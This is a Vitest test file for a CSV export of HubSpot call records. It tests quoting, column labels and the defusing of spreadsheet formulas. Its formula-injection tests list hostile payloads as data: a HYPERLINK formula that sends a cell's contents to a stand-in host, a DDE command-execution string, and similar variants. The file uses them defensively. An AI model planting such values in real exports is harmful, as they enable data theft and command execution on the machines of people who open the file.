import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { HubSpotObject } from '../../../api/schemas';
import type { RowLookups } from './call-row';
import { callsToCsv, csvFileName } from './csv';

const call = (id: string, properties: Record<string, string | null>, associations?: HubSpotObject['associations']): HubSpotObject => ({
  id,
  properties,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z',
  archived: false,
  ...(associations ? { associations } : {}),
});

const lookups: RowLookups = {
  dispositions: new Map([['f240bbac-87c9-4f6e-bf70-924b57d47db7', 'Connected']]),
  statusLabels: new Map([['COMPLETED', 'Completed']]),
  directionLabels: new Map([['OUTBOUND', 'Outbound']]),
  owners: new Map([['7', 'Grace Hopper']]),
  callCompanies: new Map([['1', ['50']]]),
  contactNames: new Map([['10', 'Ada Lovelace']]),
  companyNames: new Map([['50', 'Analytical, Engines "Ltd"']]),
};

const calls = [
  call(
    '1',
    {
      hs_call_title: 'Renewal, "urgent"',
      hs_timestamp: '2026-03-01T10:00:00.000Z',
      hs_call_direction: 'OUTBOUND',
      hs_call_disposition: 'f240bbac-87c9-4f6e-bf70-924b57d47db7',
      hs_call_status: 'COMPLETED',
      hs_call_duration: '3723000',
      hubspot_owner_id: '7',
      hs_call_recording_url: 'https://example.com/r.mp3',
    },
    { contacts: { results: [{ id: '10', type: 'call_to_contact' }] } },
  ),
  call('2', { hs_call_title: '=HYPERLINK("x")', hs_call_disposition: '00000000-0000-0000-0000-000000000000', hs_call_duration: null }),
];

describe('CSV export', () => {
  it('writes the visible columns in order with labels beside raw values', () => {
    const text = callsToCsv(calls, ['title', 'outcome', 'duration', 'time', 'owner', 'contacts', 'companies', 'recording'], lookups);
    const parsed = Papa.parse<string[]>(text.trim());
    expect(parsed.errors).toEqual([]);
    expect(parsed.data[0]).toEqual([
      'Call ID',
      'Title',
      'Outcome',
      'Outcome GUID',
      'Duration (h:mm:ss)',
      'Duration (ms)',
      'Time (ISO 8601, UTC)',
      'Owner',
      'Owner ID',
      'Contacts',
      'Contact IDs',
      'Companies',
      'Company IDs',
      'Has recording',
      'Recording URL',
    ]);
    expect(parsed.data[1]).toEqual([
      '1',
      'Renewal, "urgent"',
      'Connected',
      'f240bbac-87c9-4f6e-bf70-924b57d47db7',
      '1:02:03',
      '3723000',
      '2026-03-01T10:00:00.000Z',
      'Grace Hopper',
      '7',
      'Ada Lovelace',
      '10',
      'Analytical, Engines "Ltd"',
      '50',
      'yes',
      'https://example.com/r.mp3',
    ]);
  });

  it('flags unknown outcome GUIDs, leaves empty values empty and defuses formulas in free text', () => {
    const text = callsToCsv(calls, ['title', 'outcome', 'duration', 'direction', 'status'], lookups);
    const row = Papa.parse<string[]>(text.trim()).data[2];
    expect(row).toEqual(['2', `'=HYPERLINK("x")`, 'Unknown outcome', '00000000-0000-0000-0000-000000000000', '', '', '', '', '', '']);
  });

  it('quotes per RFC 4180 with CRLF line ends', () => {
    const text = callsToCsv([calls[0]!], ['title'], lookups);
    expect(text).toBe('Call ID,Title\r\n1,"Renewal, ""urgent"""');
  });

  it('labels enumerations from property options', () => {
    const text = callsToCsv([calls[0]!], ['direction', 'status'], lookups);
    expect(text.split('\r\n')[1]).toBe('1,Outbound,OUTBOUND,Completed,COMPLETED');
  });

  it('defuses formulas in phone numbers by the same rule as free text, keeping real numbers as they are', () => {
    const payloads = ['=HYPERLINK("https://evil.example/?x="&A1,"call")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1|cmd', '-2+3+cmd|x', '\t=1+1'];
    const numbers = ['+15551234567', '+1 (415) 555-0123', '-5', '020 7183 8750'];
    const rows = [...payloads, ...numbers].map((n, i) => call(String(i), { hs_call_from_number: n, hs_call_to_number: n }));
    const parsed = Papa.parse<string[]>(callsToCsv(rows, ['from', 'to'], lookups).trim()).data;
    expect(parsed[0]).toEqual(['Call ID', 'From number', 'To number']);
    payloads.forEach((p, i) => expect(parsed[i + 1]).toEqual([String(i), `'${p}`, `'${p}`]));
    numbers.forEach((n, i) => expect(parsed[payloads.length + i + 1]).toEqual([String(payloads.length + i), n, n]));
  });

  it('defuses formulas in every text column: title, owner, record names, recording URL', () => {
    const evil = '=1+cmd|x';
    const lk: RowLookups = { ...lookups, owners: new Map([['7', evil]]), contactNames: new Map([['10', evil]]) };
    const c = call('9', { hs_call_title: evil, hubspot_owner_id: '7', hs_call_recording_url: evil }, { contacts: { results: [{ id: '10', type: 'call_to_contact' }] } });
    const row = Papa.parse<string[]>(callsToCsv([c], ['title', 'owner', 'contacts', 'recording'], lk).trim()).data[1];
    expect(row).toEqual(['9', `'${evil}`, `'${evil}`, '7', `'${evil}`, '10', 'yes', `'${evil}`]);
  });

  it('names the file after the export time', () => {
    expect(csvFileName(new Date('2026-11-24T08:12:59Z'))).toBe('calls-2026-11-24T0812.csv');
  });
});
